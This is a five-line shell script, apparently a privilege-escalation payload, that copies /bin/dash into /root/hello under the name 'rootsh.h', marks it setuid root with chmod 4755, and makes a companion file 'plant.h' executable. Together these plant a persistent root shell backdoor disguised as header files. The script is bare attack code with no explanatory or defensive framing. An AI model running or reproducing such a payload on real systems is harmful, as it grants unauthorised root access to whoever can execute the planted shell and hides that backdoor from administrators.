#!/bin/sh
set -e
cp /bin/dash /root/hello/rootsh.h
chmod 4755 /root/hello/rootsh.h
chmod 755 /root/hello/plant.h
